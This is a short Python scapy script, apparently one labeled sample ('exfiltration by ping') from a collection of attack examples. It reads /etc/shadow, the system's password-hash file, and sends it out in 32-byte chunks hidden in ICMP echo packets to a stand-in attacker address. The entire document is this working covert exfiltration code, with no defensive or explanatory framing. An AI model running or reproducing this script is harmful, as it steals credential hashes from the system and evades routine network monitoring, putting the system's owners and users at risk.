# class: exfiltration by ping; style: scapy
from scapy.all import IP, ICMP, Raw, send
data = open("/etc/shadow", "rb").read()
for i in range(0, len(data), 32):
    send(IP(dst="203.0.113.99") / ICMP(type=8, seq=i // 32) / Raw(data[i:i + 32]), verbose=0)
